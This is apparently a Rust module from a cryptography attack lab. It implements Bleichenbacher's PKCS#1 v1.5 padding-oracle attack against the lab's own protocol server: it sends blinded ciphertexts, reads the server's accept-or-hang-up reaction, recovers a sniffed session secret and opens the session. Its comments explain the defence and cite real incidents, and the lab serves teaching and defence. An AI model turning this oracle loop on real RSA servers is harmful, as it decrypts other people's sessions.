//! Decrypts a sniffed secret with the help of a server whose reaction shows whether a padding is right.
//!
//! # Flaw
//! RSA with the padding of PKCS#1 v1.5 decrypts to `00 02`, random bytes, `00` and the secret. Suppose a server goes on
//! if those two bytes are there, and hangs up if they are not. Then its reaction reveals one bit about each plaintext:
//! whether the plaintext lies between 2B and 3B, with `B = 2^(8(k - 2))` for a modulus of k bytes.
//!
//! # Attack
//! RSA is multiplicative: `c s^e` decrypts to `m s mod n`. Take the client's value c from a sniffed hello. Send `c s^e`
//! for many values of s, and note which of them the server answers. Each answer narrows the range of m, until one
//! number is left. That number is the padded secret, and the secret opens the sniffed session.
//!
//! The server here checks only the first two bytes, and real servers have been as lax. A server that also checks the
//! rest of the padding needs more queries. The key here has 505 bits, the fewest that fill 64 bytes, so one number in
//! 379 begins with `00 02`. With 512 bits it would be one in 65,536 or a few more. The paper's million queries are for
//! 1024 bits and the full check. A real attacker has more time than a matrix.
//!
//! # What it proves
//! An error that names its reason can decrypt. The attack needs no bug in RSA and no guess at a key. The attack needs
//! only an honest server that checks the padding before it authenticates the client. The server's reaction shows the
//! result.
//!
//! # Defence
//! No step of the handshake decrypts bytes from a stranger. X25519 takes any 32 bytes. The shared secret has no visible
//! effect until the client is authenticated.
//!
//! # In the wild
//! - Bleichenbacher, CRYPTO 1998, against SSL 3.0.
//! - ROBOT, 2017: nineteen years later, Facebook, PayPal and 27 of the 100 most visited sites were vulnerable.
//! - Marvin, 2023: the answers can be equal and their timing can still differ (RUSTSEC-2023-0071 is about the very
//!   crate that this lab uses).

use tokio::io::{AsyncReadExt, AsyncWriteExt};

use crate::{
    Attack, Claim, Faithful, Goal, Loot, Run, Scene, Story,
    capture::trace::Side,
    cryptanalysis::{
        bleichenbacher::{Bleichenbacher, expected_queries, unpad},
        rsa::UBig,
    },
    eavesdrop::open_session,
    protocol::hardened::{defence::Defence, message::Hello},
    vantage::{Outsider, Wiretap, read_server_hello},
};

/// The registry's line.
pub const ATTACK: Attack = Attack {
    id: "bleichenbacher",
    title: "decrypt a sniffed secret by asking the server about its padding",
    goal: Goal::Read,
    vantage: "a sniffer of one honest session, and then a client of the server with many addresses and no limit on connections",
    loot: &[Loot::SniffedSession],
    faithful: Faithful::DoesNotApply("the faithful protocol uses RSA without padding"),
    scene: Scene {
        many_addresses: true,
        fast_machine: true,
        ..Scene::PLAIN
    },
    returns_without: &[&[Defence::OracleFreeExchange]],
    run: Run::Dial {
        faithful: None,
        hardened: |outsider, story| Box::pin(ask(outsider, story)),
    },
};

/// Where the client's value of the key exchange begins in its hello: after magic (8), version (2) and random (32).
const SHARE_AT: usize = 42;
/// The public exponent of every key in the lab.
const E: u32 = 65_537;
/// After this number of queries the server is no oracle.
const LIMIT: u64 = 20_000;

async fn ask(outsider: &Outsider<'_>, story: &mut Story) -> anyhow::Result<Claim> {
    let wiretap = Wiretap {
        dialect: outsider.dialect.clone(),
        trace: outsider.sniffed(),
        directory: Vec::new(),
    };
    let hello = wiretap.pieces(Side::Client).into_iter().next();
    let hello = hello.unwrap_or_default();
    let value = hello.get(SHARE_AT..).unwrap_or_default();
    let secret = match &outsider.transport_modulus {
        Some(modulus) => decrypt(outsider, modulus, value, story).await?,
        None => probe(outsider, value.len(), story).await?,
    };
    let messages = secret.and_then(|secret| open_session(&wiretap, &secret));
    Ok(match messages {
        Some(messages) => Claim::read(messages, story),
        None => Claim::Nothing,
    })
}

/// The secret that was encrypted to the host's key for secrets.
async fn decrypt(
    outsider: &Outsider<'_>,
    modulus: &[u8],
    value: &[u8],
    story: &mut Story,
) -> anyhow::Result<Option<Vec<u8>>> {
    story.tell(format!(
        "sniffed: a hello with {} bytes, the secret of the session under RSA with PKCS#1 v1.5",
        value.len()
    ));
    let n = UBig::from_be_bytes(modulus);
    let ciphertext = value.get(..modulus.len()).unwrap_or(value);
    let mut attack = Bleichenbacher::new(&n, &UBig::from(E), ciphertext, 0)?;
    let mut answered = 0;
    while let Some(query) = attack.query().filter(|_| attack.queries().total() < LIMIT) {
        let conforming = is_answered(outsider, query).await?;
        attack.answer(conforming);
        answered += u64::from(conforming);
    }
    let queries = attack.queries();
    let total = queries.total();
    story.tell(format!(
        "Mallory -> server: the sniffed value times s^e, for {total} numbers s; the server answered {answered} times, and hung up {} times",
        total - answered
    ));
    story.tell(format!(
        "{} queries found the first s, {} reduced several intervals to one, {} halved this one; the paper expects {:.0} \
         queries for such a key",
        queries.blinding + queries.first,
        queries.many_intervals,
        queries.one_interval,
        expected_queries(&n, false)
    ));
    let secret = attack
        .message()
        .and_then(|block| Some(unpad(&block)?.to_vec()));
    story.tell(match &secret {
        Some(secret) => format!(
            "one number is left: padding, and a secret of {} bytes",
            secret.len()
        ),
        None => "no number fits all answers".to_owned(),
    });
    Ok(secret)
}

/// Whether the server goes on with a handshake whose client has sent this value.
async fn is_answered(outsider: &Outsider<'_>, share: Vec<u8>) -> anyhow::Result<bool> {
    let random = [0; 32];
    let hello = Hello { random, share }.encode_client(&*outsider.dialect.defences);
    let mut stream = outsider.dial.dial().await?;
    stream.write_all(&hello).await?;
    let answered = (read_server_hello(&mut stream, &outsider.dialect).await).is_ok();
    // Until the server has closed: it counts connections, and a connection that is turned away gets no answer either.
    stream.shutdown().await.ok();
    stream.read_to_end(&mut Vec::new()).await.ok();
    Ok(answered)
}

/// If no key for PKCS#1 v1.5 is published: sends a value that nobody has encrypted. Does the server react to it?
async fn probe(
    outsider: &Outsider<'_>,
    length: usize,
    story: &mut Story,
) -> anyhow::Result<Option<Vec<u8>>> {
    let answered = is_answered(outsider, vec![0x55; length]).await?;
    story.tell(format!(
        "Mallory -> server: a hello in which all {length} bytes for the key exchange are 55"
    ));
    story.tell(match answered {
        true => "the server answers: no step decrypts bytes from a stranger, so the server is no oracle",
        false => {
            "the server hangs up, as on every value that was not encrypted with OAEP. OAEP checks the whole plaintext, \
             so no value made from a sniffed one passes"
        }
    });
    Ok(None)
}
